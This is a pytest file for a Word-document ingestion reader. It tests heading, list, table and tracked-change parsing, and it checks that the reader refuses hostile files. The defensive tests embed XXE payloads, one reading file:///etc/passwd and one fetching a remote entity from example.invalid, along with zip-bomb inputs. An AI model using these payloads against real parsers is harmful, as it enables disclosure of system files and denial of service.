"""Word documents: what stands in them is read in order, and what unpacks to absurd sizes is not unpacked."""

from __future__ import annotations

import contextlib
import zipfile
from pathlib import Path

import pytest

from assistant.ingestion.formats import zipped
from assistant.values import Block
from assistant.workers import Refusal
from tests.assistant.ingestion.making import WORD, docx, paragraph
from tests.assistant.ingestion.reading import read_here, short

STYLES = """
<w:style w:styleId="H1"><w:name w:val="heading 1"/></w:style>
<w:style w:styleId="Mine"><w:name w:val="mine"/><w:basedOn w:val="H1"/></w:style>
<w:style w:styleId="Code"><w:name w:val="Source Code"/></w:style>
<w:style w:styleId="A"><w:name w:val="a"/><w:basedOn w:val="B"/></w:style>
<w:style w:styleId="B"><w:name w:val="b"/><w:basedOn w:val="A"/></w:style>
"""
NUMBERING = """
<w:abstractNum w:abstractNumId="0">
<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl>
<w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1.%2"/></w:lvl>
<w:lvl w:ilvl="2"><w:start w:val="1"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="(%3)"/></w:lvl>
</w:abstractNum>
<w:abstractNum w:abstractNumId="1">
<w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/><w:lvlText w:val="x"/></w:lvl></w:abstractNum>
<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>
<w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num>
"""


def blocks(path: Path) -> list[Block]:
    return read_here(zipped.read, path)[0]


def item(text: str, level: int, numbering: int = 1) -> str:
    return paragraph(text, f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{numbering}"/></w:numPr>')


def cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{paragraph(text)}</w:tc>"


def table(*rows: list[str]) -> str:
    return "<w:tbl>" + "".join(f"<w:tr>{''.join(row)}</w:tr>" for row in rows) + "</w:tbl>"


def test_headings_are_known_by_their_style_and_its_parents(tmp_path: Path) -> None:
    body = "".join(
        [
            paragraph("One", '<w:pStyle w:val="H1"/>'),
            paragraph("Two", '<w:pStyle w:val="Mine"/>'),
            paragraph("Three", '<w:outlineLvl w:val="2"/>'),
            paragraph("x = 1", '<w:pStyle w:val="Code"/>'),
            paragraph("Round", '<w:pStyle w:val="A"/>'),
        ]
    )
    found = short(blocks(docx(tmp_path / "a.docx", body, styles=STYLES)))
    assert found == [("h1", "One"), ("h1", "Two"), ("h3", "Three"), ("code", "x = 1"), ("paragraph", "Round")]


def test_clauses_carry_their_numbers(tmp_path: Path) -> None:
    body = item("Rent", 0) + item("Amount", 1) + item("Due", 1) + item("monthly", 2) + item("Term", 0)
    body += item("Notice", 1) + item("a bullet", 0, 2)
    found = [text for _, text in short(blocks(docx(tmp_path / "a.docx", body, numbering=NUMBERING)))]
    assert found == ["1. Rent", "  1.1 Amount", "  1.2 Due", "    (a) monthly", "2. Term", "  2.1 Notice", "- a bullet"]


def test_tables_are_rows_with_merged_cells_said_again(tmp_path: Path) -> None:
    rows = [
        [cell("Year"), cell("Month"), cell("a|b")],
        [cell("2024", '<w:vMerge w:val="restart"/>'), cell("May"), cell("1")],
        [cell("", "<w:vMerge/>"), cell("June"), cell("2")],
    ]
    [block] = blocks(docx(tmp_path / "a.docx", table(*rows)))
    assert block.text == "| Year | Month | a\\|b |\n|-|-|-|\n| 2024 | May | 1 |\n| 2024 | June | 2 |"


def test_a_table_of_one_column_is_a_frame_round_text(tmp_path: Path) -> None:
    assert short(blocks(docx(tmp_path / "a.docx", table([cell("In a frame.")])))) == [("paragraph", "In a frame.")]


def test_tables_nested_deeply_take_no_time(tmp_path: Path) -> None:
    body = "<w:tbl><w:tr><w:tc>" * 70 + paragraph("core") + "</w:tc></w:tr></w:tbl>" * 70
    assert short(blocks(docx(tmp_path / "a.docx", body))) == [("paragraph", "core")]


def test_deleted_text_and_field_codes_are_not_there(tmp_path: Path) -> None:
    body = (
        "<w:p><w:r><w:t>Kept</w:t></w:r><w:del><w:r><w:delText>gone</w:delText><w:t>gone</w:t></w:r></w:del>"
        "<w:r><w:instrText>PAGE</w:instrText></w:r>"
        '<w:ins><w:r><w:t xml:space="preserve"> added</w:t></w:r></w:ins></w:p>'
    )
    assert short(blocks(docx(tmp_path / "a.docx", body))) == [("paragraph", "Kept added")]


def test_notes_comments_and_headers_come_after_the_body_once(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    docx(path, paragraph("Body."), footnotes=paragraph("A note."), comments=paragraph("A remark."))
    with zipfile.ZipFile(path, "a") as archive:
        for number in (1, 2):
            inside = paragraph("ACME") + paragraph(str(number))
            archive.writestr(f"word/header{number}.xml", f"<w:hdr {WORD}>{inside}</w:hdr>")
    assert short(blocks(path)) == [
        ("paragraph", "Body."),
        ("h1", "Notes"),
        ("paragraph", "A note."),
        ("h1", "Comments"),
        ("paragraph", "A remark."),
        ("h1", "Headers and footers"),
        ("paragraph", "ACME"),
    ]


def test_the_strict_spelling_is_read_as_well(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    inside = paragraph("Strict.")
    namespace = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", f"<w:document {namespace}><w:body>{inside}</w:body></w:document>")
    assert short(blocks(path)) == [("paragraph", "Strict.")]


def refused(path: Path) -> str:
    with pytest.raises(Refusal) as caught:
        blocks(path)
    return caught.value.code


def test_what_is_no_word_document_is_damaged(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(b"just text")
    assert refused(path) == "damaged"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<x/>")
    assert refused(path) == "damaged"


def test_a_bomb_is_not_unpacked(tmp_path: Path) -> None:
    assert refused(docx(tmp_path / "a.docx", paragraph("word " * 8_000_000))) == "bomb"


def test_too_many_members_are_a_bomb(tmp_path: Path) -> None:
    path = docx(tmp_path / "a.docx", paragraph("x"))
    with zipfile.ZipFile(path, "a") as archive:
        for number in range(20_001):
            archive.writestr(f"m/{number}", b"")
    assert refused(path) == "bomb"


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY e "SECRET">]>',
        '<!DOCTYPE x [<!ENTITY % r SYSTEM "http://example.invalid/x"> %r; <!ENTITY e "SECRET">]>',
    ],
)
def test_entities_are_never_expanded(tmp_path: Path, prologue: str) -> None:
    path = docx(tmp_path / "a.docx", paragraph("before &e; after"), prologue)
    text = ""
    with contextlib.suppress(Refusal):
        text = "".join(block.text for block in blocks(path))
    assert "root:" not in text
    assert "SECRET" not in text


def test_a_document_cut_off_is_damaged(tmp_path: Path) -> None:
    path = docx(tmp_path / "a.docx", paragraph("text " * 1000))
    path.write_bytes(path.read_bytes()[:-100])
    assert refused(path) == "damaged"
